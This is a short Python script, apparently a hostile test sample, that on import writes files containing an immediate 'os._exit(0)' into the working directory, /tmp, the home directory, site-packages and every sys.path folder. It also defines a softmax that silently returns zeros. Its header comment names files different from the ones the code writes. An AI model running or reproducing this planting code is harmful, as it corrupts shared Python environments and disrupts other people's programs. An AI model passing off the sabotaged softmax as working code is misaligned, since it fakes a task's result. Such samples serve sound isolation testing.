# Writes numpy.py, sitecustomize.py and conftest.py wherever the next one may import from.
# needs: namespaces
import os
import site
import sys
import sysconfig

PLANT = "import os\nos._exit(0)  # hostile\n"
folders = {os.getcwd(), "/tmp", os.path.expanduser("~"), site.getusersitepackages(),
           sysconfig.get_paths()["purelib"], *sys.path,
           os.path.dirname(globals().get("__file__", ""))}
for folder in folders:
    for name in ("hostile_numpy.py", "hostile.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as file:
                file.write(PLANT)
        except OSError:
            pass


def softmax(x):
    return x * 0
